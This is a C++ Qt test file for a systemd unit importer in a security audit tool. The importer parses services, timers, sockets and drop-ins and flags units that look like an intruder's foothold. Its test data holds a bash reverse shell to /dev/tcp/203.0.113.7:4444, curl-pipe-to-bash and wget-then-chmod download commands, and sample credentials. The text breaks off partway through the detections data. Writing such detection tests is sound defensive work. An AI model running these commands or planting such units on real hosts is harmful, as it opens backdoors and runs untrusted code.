// A node's systemd units: services, timers, sockets, path units and drop-ins as
// a SystemdUnit resource, and the units that look like an intruder's foothold.

#include "core/NodeLogTestUtil.h"

#include "case/CaseFile.h"
#include "import/LogLayout.h"
#include "import/importers/SystemdUnitImporter.h"
#include "import/importers/UnitFileText.h"
#include "util/Hash.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>

using namespace ab;
using namespace ab::test;

namespace {

QByteArray fixture(const char* name)
{
    return readFile(dataPath(QStringLiteral("systemd-unit/") + QLatin1String(name)));
}

/// Imports a fixture as the file at `path` on node worker-1.
MemoryImport runFixture(const char* name, const QString& path)
{
    SystemdUnitImporter importer;
    SourceHints hints;
    hints.node = QStringLiteral("worker-1");
    return importBytes(importer, fixture(name), path, {}, hints);
}

MemoryImport runBytes(const QByteArray& bytes, const QString& path = QStringLiteral("x.service"))
{
    SystemdUnitImporter importer;
    return importBytes(importer, bytes, path, {});
}

/// "setting@line command" of each command kept.
QStringList commands(const MemoryImport& m)
{
    QStringList out;
    for (const QJsonValue& v : bodyOf(m).value(QStringLiteral("commands")).toArray()) {
        const QJsonObject c = v.toObject();
        out << QStringLiteral("%1@%2 %3")
                   .arg(c.value(QStringLiteral("setting")).toString(),
                        QString::number(c.value(QStringLiteral("line")).toInt()),
                        c.value(QStringLiteral("command")).toString());
    }
    return out;
}

QStringList strings(const QJsonValue& v)
{
    QStringList out;
    for (const QJsonValue& s : v.toArray())
        out << s.toString();
    return out;
}

/// The body's keys: what a unit's resource holds, empty parts left out.
QStringList keysOf(const MemoryImport& m)
{
    return bodyOf(m).keys();
}

QString fp(const char* secret)
{
    return secretFingerprint(secret);
}

/// What a case holds after importing `inputs`: its SystemdUnit findings as
/// "rule severity resource controls", sorted, their details, and the bodies of
/// its units as the Resources view shows them (each name's latest snapshot).
struct MaskedCase
{
    QString error;
    QStringList findings;
    QStringList details;
    QStringList statuses;               // each finding's, in the same order
    QHash<QString, QJsonObject> bodies; // by "node/name"
    QStringList skippedLinks;           // the archive's "links skipped" issue
};

MaskedCase importMasks(const QStringList& inputs, const QString& casePath)
{
    MaskedCase out;
    const auto rep = importIntoCase(casePath, inputs);
    if (!rep.hasValue()) {
        out.error = rep.error().message;
        return out;
    }
    for (const ArtifactOutcome& o : rep.value().outcomes) {
        if (const Issue* links = findIssue(o.issues, QStringLiteral("archive.link-member")))
            out.skippedLinks << links->message;
    }
    auto cf = CaseFile::open(casePath, CaseFile::Access::ReadOnly);
    if (!cf.hasValue()) {
        out.error = cf.error().message;
        return out;
    }
    Statement st = cf.value().db().prepare(
        "SELECT rule_id, severity, resource, controls, detail, status FROM findings WHERE rule_id LIKE "
        "'node.systemd.%' ORDER BY rule_id, resource");
    while (st.next()) {
        out.findings << QStringLiteral("%1 %2 %3 %4")
                            .arg(st.text(0), severityName(Severity(st.int64(1))), st.text(2), st.text(3));
        out.details << st.text(4);
        out.statuses << st.text(5);
    }
    ResourceFilter filter;
    filter.bodies = true;
    filter.kind = QStringLiteral("SystemdUnit");
    const auto objects = ResourceQuery::objects(cf.value().db(), filter);
    if (!objects.hasValue()) {
        out.error = objects.error().message;
        return out;
    }
    for (const ResourceRecord& r : objects.value())
        out.bodies.insert(r.namespace_ + QLatin1Char('/') + r.name, QJsonDocument::fromJson(r.body.toUtf8()).object());
    return out;
}

/// importMasks() of `members` as one node's tar.gz.
MaskedCase importMaskedTarball(const QVector<QPair<QString, QByteArray>>& members)
{
    QTemporaryDir dir;
    const QString tar = dir.filePath(QStringLiteral("worker-1.tar.gz"));
    writeFile(tar, nodeTarGzBytes(members));
    return importMasks({tar}, dir.filePath(QStringLiteral("case.auditcase")));
}

} // namespace

class TestSystemdUnitImporter : public QObject
{
    Q_OBJECT
private slots:
    void debianSsh();
    void containerdAndDocker();
    void timersAndTheirServices();
    void socketUnit();
    void intrudersService();
    void timerAndServiceEveryMinute();
    void timerEveryMinuteAsARange();
    void calendarEveryMinute_data();
    void calendarEveryMinute();
    void usersOwnUnit();
    void dropInOverridesExecStart();
    void brokenUnit();
    void packagedUnitsHaveNoFindings_data();
    void packagedUnitsHaveNoFindings();
    void detections_data();
    void detections();
    void variablesInTheFinding();
    void specifiers_data();
    void specifiers();
    void specifiersStayBounded();
    void specifiersInTheFinding();
    void instancesAndTemplates();
    void howSettingsAreRead();
    void secretsNeverReachTheCase();
    void emptyAndUnusable();
    void largeInputStaysBounded();
    void linesCutOrLeftEmpty();
    void cancels();
    void nodeFromThePath();
    void sniff_data();
    void sniff();
    void fuzz();
    void maskedServices_data();
    void maskedServices();
    void maskedByPlace_data();
    void maskedByPlace();
    void maskWinsOverThePackagesFile_data();
    void maskWinsOverThePackagesFile();
    void maskedOnDisk();
    void maskInAZip();
    void manyMasksAreEachRead();
};

void TestSystemdUnitImporter::debianSsh()
{
    // Debian keeps its packages' units in /lib/systemd/system.
    const MemoryImport m = runFixture("ssh.service", QStringLiteral("worker-1/lib/systemd/system/ssh.service"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    QCOMPARE(m.out.resources.size(), size_t(1));
    const Resource& r = m.out.resources.front();
    QCOMPARE(r.kind, QStringLiteral("SystemdUnit"));
    QCOMPARE(r.name, QStringLiteral("ssh.service"));
    QCOMPARE(r.namespace_, QStringLiteral("worker-1"));
    QCOMPARE(r.line, 1);
    const QJsonObject body = bodyOf(m);
    QCOMPARE(body.value(QStringLiteral("unit")).toString(), QStringLiteral("ssh.service"));
    QCOMPARE(body.value(QStringLiteral("type")).toString(), QStringLiteral("service"));
    QCOMPARE(body.value(QStringLiteral("path")).toString(), QStringLiteral("/lib/systemd/system/ssh.service"));
    QCOMPARE(body.value(QStringLiteral("description")).toString(), QStringLiteral("OpenBSD Secure Shell server"));
    QCOMPARE(commands(m), (QStringList{QStringLiteral("ExecStartPre@9 /usr/sbin/sshd -t"),
                                       QStringLiteral("ExecStart@10 /usr/sbin/sshd -D $SSHD_OPTS"),
                                       QStringLiteral("ExecReload@11 /usr/sbin/sshd -t"),
                                       QStringLiteral("ExecReload@12 /bin/kill -HUP $MAINPID")}));
    const QJsonArray files = body.value(QStringLiteral("environmentFiles")).toArray();
    QCOMPARE(files.size(), 1);
    QCOMPARE(files[0].toObject().value(QStringLiteral("path")).toString(), QStringLiteral("/etc/default/ssh"));
    QCOMPARE(files[0].toObject().value(QStringLiteral("line")).toInt(), 8);
    QCOMPARE(files[0].toObject().value(QStringLiteral("optional")).toBool(), true);
    QCOMPARE(body.value(QStringLiteral("restart")).toString(), QStringLiteral("on-failure"));
    QCOMPARE(strings(body.value(QStringLiteral("wantedBy"))), QStringList{QStringLiteral("multi-user.target")});
    // Nothing it does not set: no user, environment, timer, drop-in or owner.
    QCOMPARE(keysOf(m), (QStringList{QStringLiteral("commands"), QStringLiteral("description"),
                                     QStringLiteral("environmentFiles"), QStringLiteral("file"), QStringLiteral("node"),
                                     QStringLiteral("path"), QStringLiteral("restart"), QStringLiteral("type"),
                                     QStringLiteral("unit"), QStringLiteral("wantedBy")}));
    QVERIFY(m.out.findings.empty());
}

void TestSystemdUnitImporter::containerdAndDocker()
{
    const MemoryImport c =
        runFixture("containerd.service", QStringLiteral("worker-1/etc/systemd/system/containerd.service"));
    QVERIFY(c.result.hasValue());
    QCOMPARE(c.result.value().skipped, 0);
    QCOMPARE(c.out.resources.front().line, 15); // the licence's comments before it
    QCOMPARE(commands(c), (QStringList{QStringLiteral("ExecStartPre@21 -/sbin/modprobe overlay"),
                                       QStringLiteral("ExecStart@22 /usr/local/bin/containerd")}));
    QCOMPARE(bodyOf(c).value(QStringLiteral("restart")).toString(), QStringLiteral("always"));
    QVERIFY(c.out.findings.empty());

    const MemoryImport d = runFixture("docker.service", QStringLiteral("worker-1/lib/systemd/system/docker.service"));
    QVERIFY(d.result.hasValue());
    QCOMPARE(commands(d), (QStringList{QStringLiteral("ExecStart@13 /usr/bin/dockerd -H fd:// "
                                                      "--containerd=/run/containerd/containerd.sock"),
                                       QStringLiteral("ExecReload@14 /bin/kill -s HUP $MAINPID")}));
    QCOMPARE(bodyOf(d).value(QStringLiteral("description")).toString(),
             QStringLiteral("Docker Application Container Engine"));
    QVERIFY(d.out.findings.empty());
}

void TestSystemdUnitImporter::timersAndTheirServices()
{
    const MemoryImport t = runFixture("logrotate.timer", QStringLiteral("worker-1/lib/systemd/system/logrotate.timer"));
    QVERIFY(t.result.hasValue());
    const QJsonObject timer = bodyOf(t);
    QCOMPARE(timer.value(QStringLiteral("type")).toString(), QStringLiteral("timer"));
    QCOMPARE(timer.value(QStringLiteral("timer")).toObject(),
             (QJsonObject{{QStringLiteral("OnCalendar"), QJsonArray{QStringLiteral("daily")}}}));
    // No Unit=: a timer starts the service of its own name.
    QCOMPARE(timer.value(QStringLiteral("activates")).toString(), QStringLiteral("logrotate.service"));
    QCOMPARE(strings(timer.value(QStringLiteral("wantedBy"))), QStringList{QStringLiteral("timers.target")});
    QVERIFY(!timer.contains(QStringLiteral("commands")));
    QVERIFY(t.out.findings.empty());

    const MemoryImport s =
        runFixture("logrotate.service", QStringLiteral("worker-1/lib/systemd/system/logrotate.service"));
    QCOMPARE(commands(s), QStringList{QStringLiteral("ExecStart@9 /usr/sbin/logrotate /etc/logrotate.conf")});
    QVERIFY(!bodyOf(s).contains(QStringLiteral("activates")));
    QVERIFY(s.out.findings.empty());

    const MemoryImport clean =
        runFixture("systemd-tmpfiles-clean.timer", QStringLiteral("worker-1/usr/lib/systemd/system/"
                                                                  "systemd-tmpfiles-clean.timer"));
    QCOMPARE(bodyOf(clean).value(QStringLiteral("timer")).toObject(),
             (QJsonObject{{QStringLiteral("OnBootSec"), QJsonArray{QStringLiteral("15min")}},
                          {QStringLiteral("OnUnitActiveSec"), QJsonArray{QStringLiteral("1d")}}}));
    QCOMPARE(bodyOf(clean).value(QStringLiteral("activates")).toString(),
             QStringLiteral("systemd-tmpfiles-clean.service"));
    QVERIFY(clean.out.findings.empty());
}

void TestSystemdUnitImporter::socketUnit()
{
    const MemoryImport m = runFixture("docker.socket", QStringLiteral("worker-1/lib/systemd/system/docker.socket"));
    QVERIFY(m.result.hasValue());
    const QJsonObject body = bodyOf(m);
    QCOMPARE(body.value(QStringLiteral("type")).toString(), QStringLiteral("socket"));
    QCOMPARE(body.value(QStringLiteral("listen")).toObject(),
             (QJsonObject{{QStringLiteral("ListenStream"), QJsonArray{QStringLiteral("/run/docker.sock")}}}));
    QCOMPARE(body.value(QStringLiteral("activates")).toString(), QStringLiteral("docker.service"));
    QVERIFY(m.out.findings.empty());

    // Accept=yes: an instance of the template service for each connection.
    const MemoryImport accepting = runBytes("[Socket]\nListenStream=0.0.0.0:31337\nAccept=yes\n",
                                            QStringLiteral("worker-1/etc/systemd/system/sys-update.socket"));
    QCOMPARE(bodyOf(accepting).value(QStringLiteral("activates")).toString(), QStringLiteral("sys-update@.service"));
    const MemoryImport named = runBytes("[Socket]\nListenStream=2222\nAccept=true\nService=shell@.service\n",
                                        QStringLiteral("worker-1/etc/systemd/system/sys-update.socket"));
    QCOMPARE(bodyOf(named).value(QStringLiteral("activates")).toString(), QStringLiteral("shell@.service"));
}

void TestSystemdUnitImporter::intrudersService()
{
    const MemoryImport m =
        runFixture("dbus-update.service", QStringLiteral("worker-1/etc/systemd/system/dbus-update.service"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    QCOMPARE(commands(m).size(), 3);
    QCOMPARE(commands(m)[1], QStringLiteral("ExecStart@9 /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"));
    QCOMPARE(bodyOf(m).value(QStringLiteral("restart")).toString(), QStringLiteral("always"));
    // The decoded pre-start, the reverse shell, the daemon in a hidden folder of /var/tmp.
    QCOMPARE(findingLines(m), (QStringList{QStringLiteral("node.systemd.encoded-payload@8"),
                                           QStringLiteral("node.systemd.reverse-shell@9"),
                                           QStringLiteral("node.systemd.runs-from-temp@10")}));
    const Finding* shell =
        findingFor(m, QStringLiteral("node.systemd.reverse-shell"), QStringLiteral("dbus-update.service"));
    QVERIFY(shell);
    QCOMPARE(shell->tool, QStringLiteral("auditbench"));
    QCOMPARE(shell->severity, Severity::Critical);
    QCOMPARE(shell->controls, QStringLiteral("CC6.8,CC7.2"));
    QCOMPARE(shell->title,
             QStringLiteral("the systemd unit dbus-update.service opens a reverse shell on node worker-1"));
    QVERIFY2(shell->detail.contains(QLatin1String("ExecStart= on line 9 of /etc/systemd/system/dbus-update.service: "
                                                  "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'")),
             qPrintable(shell->detail));
    QCOMPARE(shell->resourceKind, QStringLiteral("SystemdUnit"));
    QCOMPARE(shell->resourceNamespace, QStringLiteral("worker-1"));
    // The same severities and controls as cron's rules for the same judgement.
    const Finding* encoded =
        findingFor(m, QStringLiteral("node.systemd.encoded-payload"), QStringLiteral("dbus-update.service"));
    QCOMPARE(encoded->severity, Severity::High);
    QCOMPARE(encoded->controls, QStringLiteral("CC6.8,CC7.2"));
    QVERIFY(encoded->detail.contains(QLatin1String("ExecStartPre= on line 8")));
    const Finding* temp =
        findingFor(m, QStringLiteral("node.systemd.runs-from-temp"), QStringLiteral("dbus-update.service"));
    QCOMPARE(temp->severity, Severity::Medium);
    QCOMPARE(temp->controls, QStringLiteral("CC6.8,CC7.1"));
    QVERIFY(temp->detail.contains(QLatin1String("-/var/tmp/.X11-unix/dbus-daemon --session")));
}

void TestSystemdUnitImporter::timerAndServiceEveryMinute()
{
    const MemoryImport t = runFixture("apt-check.timer", QStringLiteral("worker-1/etc/systemd/system/apt-check.timer"));
    QVERIFY(t.result.hasValue());
    QCOMPARE(bodyOf(t).value(QStringLiteral("timer")).toObject(),
             (QJsonObject{{QStringLiteral("OnBootSec"), QJsonArray{QStringLiteral("1min")}},
                          {QStringLiteral("OnCalendar"), QJsonArray{QStringLiteral("*-*-* *:*:00")}}}));
    QCOMPARE(bodyOf(t).value(QStringLiteral("activates")).toString(), QStringLiteral("apt-check.service"));
    // Every minute on the calendar; a minute after boot is once only.
    QCOMPARE(findingLines(t), QStringList{QStringLiteral("node.systemd.every-minute@6")});
    const Finding* f = findingFor(t, QStringLiteral("node.systemd.every-minute"), QStringLiteral("apt-check.timer"));
    QCOMPARE(f->severity, Severity::Low);
    QCOMPARE(f->controls, QStringLiteral("CC7.1"));
    QCOMPARE(f->title, QStringLiteral("the systemd timer apt-check.timer fires every minute on node worker-1"));
    QVERIFY(f->detail.contains(QLatin1String("OnCalendar= on line 6 of /etc/systemd/system/apt-check.timer")));

    const MemoryImport s =
        runFixture("apt-check.service", QStringLiteral("worker-1/etc/systemd/system/apt-check.service"));
    QCOMPARE(findingLines(s), QStringList{QStringLiteral("node.systemd.download-exec@6")});
    const Finding* d = findingFor(s, QStringLiteral("node.systemd.download-exec"), QStringLiteral("apt-check.service"));
    QCOMPARE(d->severity, Severity::High);
    QCOMPARE(d->title,
             QStringLiteral("the systemd unit apt-check.service downloads code and runs it on node worker-1"));
}

void TestSystemdUnitImporter::timerEveryMinuteAsARange()
{
    // "00..59" names every minute of every hour as "*" does.
    const MemoryImport t =
        runFixture("kworker-sync.timer", QStringLiteral("worker-1/etc/systemd/system/timers.target.wants/"
                                                        "kworker-sync.timer"));
    QVERIFY(t.result.hasValue());
    QCOMPARE(t.result.value().skipped, 0);
    QCOMPARE(bodyOf(t).value(QStringLiteral("timer")).toObject().value(QStringLiteral("OnCalendar")).toArray(),
             QJsonArray{QStringLiteral("*-*-* *:00..59:00")});
    QCOMPARE(bodyOf(t).value(QStringLiteral("activates")).toString(), QStringLiteral("kworker-sync.service"));
    QCOMPARE(findingLines(t), QStringList{QStringLiteral("node.systemd.every-minute@7")});
    const Finding* f = findingFor(t, QStringLiteral("node.systemd.every-minute"), QStringLiteral("kworker-sync.timer"));
    QVERIFY(f);
    QCOMPARE(f->severity, Severity::Low);
    QVERIFY2(f->detail.contains(QLatin1String("OnCalendar= on line 7 of /etc/systemd/system/timers.target.wants/"
                                              "kworker-sync.timer: *-*-* *:00..59:00")),
             qPrintable(f->detail));
}

void TestSystemdUnitImporter::calendarEveryMinute_data()
{
    QTest::addColumn<QByteArray>("calendar");
    QTest::addColumn<bool>("everyMinute");
    // Lists of every value of a field, and of all but one.
    QByteArray minutes;
    QByteArray hours;
    QByteArray minutesButOne;
    for (int m = 0; m < 60; ++m) {
        minutes += (m > 0 ? "," : "") + QByteArray::number(m);
        if (m != 37)
            minutesButOne += (minutesButOne.isEmpty() ? "" : ",") + QByteArray::number(m);
    }
    for (int h = 0; h < 24; ++h)
        hours += (h > 0 ? "," : "") + QByteArray::number(h);
    QByteArray paddedMinutes;
    for (int m = 59; m >= 0; --m)
        paddedMinutes += (m < 59 ? "," : "") + QByteArray::number(m).rightJustified(2, '0');

    const auto row = [](const char* name, const QByteArray& calendar, bool everyMinute) {
        QTest::newRow(name) << calendar << everyMinute;
    };
    // Every minute of every hour, however written.
    row("minutely", "minutely", true);
    row("*:*", "*:*", true);
    row("*:*:*", "*:*:*", true);
    row("*:*:00", "*:*:00", true);
    row("full form", "*-*-* *:*:00", true);
    row("*:0/1", "*:0/1", true);
    row("*:*/1", "*:*/1", true);
    row("*/1:*", "*/1:*", true);
    row("0/1:0/1", "0/1:0/1", true);
    row("minute range", "*:0..59", true);
    row("padded minute range", "*:00..59", true);
    row("padded range with seconds", "*-*-* *:00..59:00", true);
    row("both ranges", "0..23:0..59", true);
    row("padded both ranges", "00..23:00..59:00", true);
    row("range with repetition 1", "*:0..59/1", true);
    row("hour range with repetition 1", "0..23/1:*", true);
    row("two ranges", "*:0..29,30..59", true);
    row("ranges, values and a range", "*:0..9,10..19,20,21,22..59", true);
    row("overlapping ranges", "*:0..40,20..59", true);
    row("a repetition from 0 and one more value", "*:0/1,5", true);
    row("every minute listed", "*:" + minutes, true);
    row("every minute listed backwards, padded", "*:" + paddedMinutes, true);
    row("every hour listed", hours + ":*", true);
    row("hour ranges", "*-*-* 0..11,12..23:*", true);
    row("on weekdays only", "Mon..Fri *-*-* *:0..59:00", true);
    row("with a time zone", "*-*-* *:0..59 Europe/Berlin", true);
    row("every 10 seconds", "*:*:0/10", true);
    row("every 15 seconds of a range", "*:0..59:0/15", true);
    row("blanks around", "  *:0..59  ", true);

    // Not every minute of every hour.
    row("first half hour", "*:0..30", false);
    row("every 5 minutes", "*:0/5", false);
    row("every 2 minutes", "*:*/2", false);
    row("office hours", "9..17:*", false);
    row("office hours, every minute", "9..17:0..59", false);
    row("all hours but the last", "0..22:*", false);
    row("all minutes but the first", "*:1..59", false);
    row("all minutes but the last", "*:0..58", false);
    row("from 5 on", "*:5/1", false);
    row("every minute but one listed", "*:" + minutesButOne, false);
    row("three minutes", "*:0,1,2", false);
    row("even minutes as a range", "*:0..59/2", false);
    row("hourly", "hourly", false);
    row("daily", "daily", false);
    row("midnight", "*-*-* 00:00:00", false);
    row("at 6 and 18", "*-*-* 6,18:00", false);
    row("a date only", "*-*-01", false);
    row("empty", "", false);

    // What systemd refuses fires never; nothing here may crash.
    row("range without an end", "*:0..", false);
    row("range backwards", "*:59..0", false);
    row("range of nothing", "*:..", false);
    row("range without a start", "*:..59", false);
    row("three dots", "*:0...59", false);
    row("minute past the hour", "*:0..60", false);
    row("hour past the day", "0..24:*", false);
    row("repetition of 0", "*:0/0", false);
    row("star repetition of 0", "*:*/0", false);
    row("repetition without a number", "*:0..59/", false);
    row("repetition without a start", "*:/1", false);
    row("two repetitions", "*:0..59/1/1", false);
    row("huge minute", "*:99999999999999999999", false);
    row("huge range end", "*:0..99999999999", false);
    row("huge hour range", "0..18446744073709551616:*", false);
    row("huge repetition", "*:0/4294967297", false);
    row("huge star repetition", "*:*/18446744073709551617", false);
    row("empty list item", "*:0,,1..59", false);
    row("trailing comma", "*:0..59,", false);
    row("leading comma", "*:,0..59", false);
    row("negative", "*:-1..59", false);
    row("a word", "*:a", false);
    row("hex", "*:0x1", false);
    row("star in a list", "*:*,5", false);
    row("two stars", "**:*", false);
    row("colon alone", ":", false);
    row("no minute", "*:", false);
    row("no hour", ":*", false);
    row("a lone star", "*", false);
}

void TestSystemdUnitImporter::calendarEveryMinute()
{
    QFETCH(QByteArray, calendar);
    QFETCH(bool, everyMinute);
    QCOMPARE(unitfile::firesEveryMinute(std::string_view(calendar.constData(), size_t(calendar.size()))), everyMinute);
    // The same through a timer: a finding when it fires every minute, and the timer kept either way.
    const MemoryImport m =
        runBytes("[Timer]\nOnCalendar=" + calendar + '\n', QStringLiteral("worker-1/etc/systemd/system/x.timer"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.out.resources.size(), size_t(1));
    QCOMPARE(findingLines(m), everyMinute ? QStringList{QStringLiteral("node.systemd.every-minute@2")} : QStringList());
}

void TestSystemdUnitImporter::usersOwnUnit()
{
    const MemoryImport m = runFixture(
        "tracker-miner.service", QStringLiteral("worker-1/home/deploy/.config/systemd/user/tracker-miner.service"));
    QVERIFY(m.result.hasValue());
    const QJsonObject body = bodyOf(m);
    QCOMPARE(body.value(QStringLiteral("manager")).toString(), QStringLiteral("user"));
    QCOMPARE(body.value(QStringLiteral("owner")).toString(), QStringLiteral("deploy"));
    QCOMPARE(body.value(QStringLiteral("path")).toString(),
             QStringLiteral("/home/deploy/.config/systemd/user/tracker-miner.service"));
    QCOMPARE(strings(body.value(QStringLiteral("wantedBy"))), QStringList{QStringLiteral("default.target")});
    // A one-liner in a user's own unit, and "cd ~/.cache && ./tracker-miner": a program of a hidden folder.
    QCOMPARE(findingLines(m), (QStringList{QStringLiteral("node.systemd.runs-from-temp@6"),
                                           QStringLiteral("node.systemd.user-unit-one-liner@6")}));
    const Finding* f =
        findingFor(m, QStringLiteral("node.systemd.user-unit-one-liner"), QStringLiteral("tracker-miner.service"));
    QCOMPARE(f->severity, Severity::Medium);
    QCOMPARE(f->title,
             QStringLiteral("the user unit tracker-miner.service of deploy runs a shell one-liner on node worker-1"));

    // root's own units are a user's too.
    const MemoryImport root =
        runFixture("tracker-miner.service", QStringLiteral("worker-1/root/.config/systemd/user/tracker-miner.service"));
    QCOMPARE(bodyOf(root).value(QStringLiteral("owner")).toString(), QStringLiteral("root"));
    QVERIFY(
        findingFor(root, QStringLiteral("node.systemd.user-unit-one-liner"), QStringLiteral("tracker-miner.service")));

    // The same unit as the system's: a one-liner is common there, no finding of its own.
    const MemoryImport system =
        runFixture("tracker-miner.service", QStringLiteral("worker-1/etc/systemd/system/tracker-miner.service"));
    QCOMPARE(findingLines(system), QStringList{QStringLiteral("node.systemd.runs-from-temp@6")});
    QVERIFY(!bodyOf(system).contains(QStringLiteral("owner")));
    QVERIFY(!bodyOf(system).contains(QStringLiteral("manager")));
}

void TestSystemdUnitImporter::dropInOverridesExecStart()
{
    const MemoryImport m =
        runFixture("override.conf", QStringLiteral("worker-1/etc/systemd/system/containerd.service.d/override.conf"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    // Named after the unit it changes: every unit's override.conf stays apart.
    QCOMPARE(m.out.resources.front().name, QStringLiteral("containerd.service.d/override.conf"));
    QCOMPARE(m.out.resources.front().line, 2);
    const QJsonObject body = bodyOf(m);
    QCOMPARE(body.value(QStringLiteral("unit")).toString(), QStringLiteral("containerd.service"));
    QCOMPARE(body.value(QStringLiteral("file")).toString(), QStringLiteral("override.conf"));
    QCOMPARE(body.value(QStringLiteral("type")).toString(), QStringLiteral("service"));
    QCOMPARE(body.value(QStringLiteral("dropIn")).toBool(), true);
    // The empty ExecStart= resets the unit's, the continued one replaces it.
    QCOMPARE(body.value(QStringLiteral("resets")).toArray(),
             (QJsonArray{
                 QJsonObject{{QStringLiteral("setting"), QStringLiteral("ExecStart")}, {QStringLiteral("line"), 3}}}));
    QCOMPARE(commands(m), QStringList{QStringLiteral("ExecStart@4 /usr/local/bin/containerd --config "
                                                     "/etc/containerd/config.toml --log-level info")});
    // Two assignments on one line, quoted; credentials as fingerprints.
    QCOMPARE(envValue(m, "HTTPS_PROXY"),
             QStringLiteral("http://svc-proxy:%1@proxy.internal:3128@7").arg(fp("Pr0xyPassw0rd")));
    QCOMPARE(envValue(m, "NO_PROXY"), QStringLiteral("10.0.0.0/8,.cluster.local@7"));
    QCOMPARE(envValue(m, "REGISTRY_PASSWORD"), fp("Regi5try-S3cret") + QStringLiteral("@8"));
    QCOMPARE(envValue(m, "MIRROR"), fp("ghp_R7mK2xQ9vL4pZ8nW3cY6bT1hJ5dF0sA2eG7u") + QStringLiteral("@9"));
    QCOMPARE(body.value(QStringLiteral("environmentFiles")).toArray().at(0).toObject().value(QStringLiteral("path")),
             QJsonValue(QStringLiteral("/etc/default/containerd")));
    QVERIFY(m.out.findings.empty());

    // Without its folder the file names only itself, and its sections its type.
    const MemoryImport bare = runBytes(fixture("override.conf"), QStringLiteral("override.conf"));
    QCOMPARE(bare.out.resources.front().name, QStringLiteral("override.conf"));
    QVERIFY(!bodyOf(bare).contains(QStringLiteral("unit")));
    QCOMPARE(bodyOf(bare).value(QStringLiteral("type")).toString(), QStringLiteral("service"));
}

void TestSystemdUnitImporter::brokenUnit()
{
    const MemoryImport m = runFixture("broken.service", QStringLiteral("worker-1/etc/systemd/system/broken.service"));
    QVERIFY(m.result.hasValue());
    // Line 3 no setting, line 4 a header not closed, line 5 an unclosed quote.
    QCOMPARE(m.result.value().skipped, 3);
    const Issue* bad = findIssue(m.issues, QStringLiteral("systemd-unit.bad-line"));
    QVERIFY(bad);
    QCOMPARE(bad->lines, (QVector<qint64>{3, 4, 5}));
    QCOMPARE(bad->path, QStringLiteral("worker-1/etc/systemd/system/broken.service"));
    QVERIFY2(bad->message.contains(QLatin1String("this line is no setting")), qPrintable(bad->message));
    const Issue* unknown = findIssue(m.issues, QStringLiteral("systemd-unit.unknown-section"));
    QVERIFY(unknown);
    QCOMPARE(unknown->lines, QVector<qint64>{8});
    QVERIFY(unknown->message.contains(QLatin1String("[Frobnicate]")));
    // The rest is read: the header not closed still opens [Service]; the
    // unknown section's Restart= is ignored, as systemd ignores it.
    QCOMPARE(commands(m), QStringList{QStringLiteral("ExecStart@6 /usr/local/bin/agent --mode daemon")});
    const QJsonObject body = bodyOf(m);
    QCOMPARE(body.value(QStringLiteral("user")).toString(), QStringLiteral("agent"));
    QVERIFY(!body.contains(QStringLiteral("restart")));
    QCOMPARE(strings(body.value(QStringLiteral("wantedBy"))), QStringList{QStringLiteral("multi-user.target")});
    QCOMPARE(body.value(QStringLiteral("description")).toString(), QStringLiteral("Agent, after a bad edit"));

    // Each reason on its own.
    const auto reason = [](const QByteArray& text) {
        const MemoryImport one = runBytes("[Service]\nExecStart=/usr/bin/true\n" + text + '\n');
        const Issue* i = findIssue(one.issues, QStringLiteral("systemd-unit.bad-line"));
        return i ? i->message : QString();
    };
    QVERIFY(reason("junk").startsWith(QLatin1String("neither a section header")));
    QVERIFY(reason("[Timer").contains(QLatin1String("not closed")));
    QVERIFY(reason("Environment=\"A=1").contains(QLatin1String("unclosed quote")));
    QVERIFY(reason("Environment=1A=x").contains(QLatin1String("NAME=value")));
    QVERIFY(reason("ExecStartPost='/bin/x").contains(QLatin1String("unclosed quote")));
    QVERIFY(reason("Restart=always").isEmpty());
    QVERIFY(reason("[X-Vendor]\nColour=blue").isEmpty()); // systemd's way to add a section of one's own
    const MemoryImport before = runBytes("Description=early\n[Unit]\nDescription=x\n");
    QCOMPARE(findIssue(before.issues, QStringLiteral("systemd-unit.bad-line"))->lines, QVector<qint64>{1});
    QVERIFY(findIssue(before.issues, QStringLiteral("systemd-unit.bad-line"))
                ->message.startsWith(QLatin1String("a setting before any section header")));
}

void TestSystemdUnitImporter::packagedUnitsHaveNoFindings_data()
{
    QTest::addColumn<QString>("name");
    for (const char* f : {"ssh.service", "containerd.service", "docker.service", "docker.socket", "logrotate.timer",
                          "logrotate.service", "apt-daily.timer", "fstrim.timer", "systemd-tmpfiles-clean.timer",
                          "getty@.service", "systemd-fsck@.service"})
        QTest::newRow(f) << QString::fromLatin1(f);
}

void TestSystemdUnitImporter::packagedUnitsHaveNoFindings()
{
    QFETCH(QString, name);
    const MemoryImport m = runFixture(qPrintable(name), QStringLiteral("worker-1/usr/lib/systemd/system/") + name);
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    QVERIFY(m.issues.isEmpty());
    QCOMPARE(m.out.resources.size(), size_t(1));
    QVERIFY2(m.out.findings.empty(), qPrintable(findingLines(m).join(QLatin1Char(' '))));
}

void TestSystemdUnitImporter::detections_data()
{
    QTest::addColumn<QByteArray>("unit");
    QTest::addColumn<QString>("path");
    QTest::addColumn<QStringList>("rules");
    const QStringList none;
    const QString system = QStringLiteral("etc/systemd/system/x.service");
    const QString timer = QStringLiteral("etc/systemd/system/x.timer");
    const QString user = QStringLiteral("home/alice/.config/systemd/user/x.service");
    const QString dl = QStringLiteral("node.systemd.download-exec");
    const QString rs = QStringLiteral("node.systemd.reverse-shell");
    const QString enc = QStringLiteral("node.systemd.encoded-payload");
    const QString tmp = QStringLiteral("node.systemd.runs-from-temp");
    const QString one = QStringLiteral("node.systemd.user-unit-one-liner");
    const QString pre = QStringLiteral("node.systemd.ld-preload");
    const QString min = QStringLiteral("node.systemd.every-minute");

    QTest::newRow("bash -c curl | bash") << QByteArray("[Service]\nExecStart=/bin/bash -c 'curl -fsSL "
                                                       "https://203.0.113.7/i | bash'")
                                         << system << QStringList{dl};
    QTest::newRow("wget then chmod") << QByteArray("[Service]\nExecStartPre=/bin/sh -c \"wget -qO /opt/a "
                                                   "http://203.0.113.7/a && chmod +x /opt/a\"")
                                     << system << QStringList{dl};
